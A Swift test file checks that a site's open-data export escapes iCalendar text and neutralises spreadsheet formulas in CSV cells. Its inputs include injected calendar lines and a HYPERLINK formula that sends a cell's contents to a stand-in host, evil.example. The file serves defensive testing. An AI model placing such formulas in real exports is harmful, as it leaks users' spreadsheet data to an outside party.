@testable import KartaSite
import Testing

/// Content cannot make the open data say more than it holds (issue #33): a line break in a title
/// starts no calendar property, a formula in a title stays text in the table.
struct OpenDataInjectionTests {
    @Test(arguments: [
        ("Мера\r\nBEGIN:VEVENT\r\nSUMMARY:Чужое", "Мера\\nBEGIN:VEVENT\\nSUMMARY:Чужое"),
        ("Мера\rКонец", "Мера\\nКонец"),
        ("a;b,c\\d", "a\\;b\\,c\\\\d"),
        ("Табуляция\tи\u{7}звонок", "Табуляция изв" + "онок")
    ])
    func calendarTextHasNoRawLineBreak(text: String, expected: String) {
        let escaped = String(decoding: CalendarLines.escaped(text), as: UTF8.self)
        #expect(escaped == expected)
        #expect(!escaped.utf8.contains { $0 < 0x20 })
    }

    @Test(arguments: [
        (
            "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Нажмите\")",
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"Нажмите\"\")\""
        ),
        ("+7 (999) 000", "'+7 (999) 000"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("1.1", "1.1"), ("Анкетирование", "Анкетирование")
    ])
    func tableCellsAreNeverFormulas(text: String, expected: String) {
        #expect(MeasuresCSV.field(text) == expected)
    }
}
